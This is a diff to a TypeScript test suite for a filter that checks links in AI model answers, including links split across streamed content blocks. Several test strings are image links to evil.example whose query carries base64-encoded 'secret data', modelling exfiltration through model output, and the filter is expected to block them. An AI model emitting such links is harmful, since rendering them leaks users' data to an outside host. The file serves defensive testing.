@@ -22,9 +22,14 @@ describe('links in answers, whole and streamed', () => {
   before(async () => {
     fake = await fakeSystem();
     server = await testServer({
-      systems: { main: enforced(fake), strict: enforced(fake, { links: { hosts: ['docs.example.com'] } }) },
+      systems: {
+        main: enforced(fake),
+        strict: enforced(fake, { links: { hosts: ['docs.example.com'] } }),
+        claude: enforced(fake, { dialect: 'anthropic' }),
+        allowed: enforced(fake, { dialect: 'anthropic', links: { hosts: ['docs.example.com'] } }),
+      },
     });
-    key = await server.key(['main', 'strict']);
+    key = await server.key(['main', 'strict', 'claude', 'allowed']);
   });
   after(async () => {
     await server.stop();
@@ -74,5 +79,68 @@ describe('links in answers, whole and streamed', () => {
     assert.deepEqual(await passes(`${WORDS}![x](https://docs.example.com/a.png)`, 'strict'), ALL);
     assert.deepEqual(await passes(`${WORDS}![x](https://other.example/a.png)`, 'strict'), NONE);
     assert.deepEqual(await passes(`${WORDS}[x](https://other.example/a)`, 'strict'), ALL);
+  });
+
+  /** Whether an answer of these blocks goes out, whole and streamed. */
+  const blocksPass = async (texts: readonly string[], system = 'claude'): Promise<boolean[]> => {
+    const body = { model: system, max_tokens: 9, messages: [{ role: 'user', content: 'hello' }] };
+    const message = { id: 'msg_1', type: 'message', role: 'assistant', model: 'm', content: [] };
+    const event = (type: string, more: object): string =>
+      `event: ${type}\ndata: ${JSON.stringify({ type, ...more })}\n\n`;
+    fake.answer = (_req, res) =>
+      sendJson(
+        res,
+        JSON.stringify({
+          ...message,
+          content: texts.map((text) => ({ type: 'text', text })),
+          stop_reason: 'end_turn',
+        }),
+      );
+    const whole = await server.post('/v1/messages', key, body);
+    await whole.text();
+    fake.answer = (_req, res) =>
+      sendEvents(res, [
+        event('message_start', { message }),
+        ...texts.flatMap((text, index) => [
+          event('content_block_start', { index, content_block: { type: 'text', text: '' } }),
+          event('content_block_delta', { index, delta: { type: 'text_delta', text } }),
+          event('content_block_stop', { index }),
+        ]),
+        event('message_stop', {}),
+      ]);
+    const streamed = await (await server.post('/v1/messages', key, { ...body, stream: true })).text();
+    return [whole.status === 200, !streamed.includes('output-denied')];
+  };
+
+  it('a link cut over two or three blocks is judged as the whole that is shown, not as the part that is harmless', async () => {
+    for (const lead of ['', WORDS]) {
+      assert.deepEqual(await blocksPass([`${lead}See !`, `[x](${AT}) there.`]), [false, false]);
+      assert.deepEqual(await blocksPass([`${lead}![x`, `](${AT}) there.`]), [false, false]);
+      assert.deepEqual(
+        await blocksPass([`${lead}![x](https://evil.example/p?d=c2VjcmV0IGRh`, 'dGEgZm9yIHlvdQ) there.']),
+        [false, false],
+      );
+      assert.deepEqual(
+        await blocksPass([`${lead}![x](https://evil.example/p?d=c2VjcmV0`, 'IGRhdGEgZm9y', 'IHlvdQ) so.']),
+        [false, false],
+      );
+      assert.deepEqual(
+        await blocksPass([`${lead}<im`, `g src="https://evil.example/p?d=c2Vjcm`, `V0IGRhdGEgZm9yIHlvdQ">`]),
+        [false, false],
+      );
+      assert.deepEqual(await blocksPass([`${lead}![x](https://other.example/a`, '.png) there.'], 'allowed'), [
+        false,
+        false,
+      ]);
+    }
+  });
+
+  it('links that end where their block does pass as they would alone', async () => {
+    for (const texts of [
+      [`${WORDS}See https://docs.example/a`, 'and what comes next.'],
+      ['See [the page](https://docs.example/a)', '![a chart](https://docs.example/chart.png)', 'So it is.'],
+      ['One. ', 'Two: https://docs.example/a?page=2 .', ' Three!', '[four](https://docs.example/b)'],
+    ])
+      assert.deepEqual(await blocksPass(texts), [true, true], texts.join('|'));
   });
 });
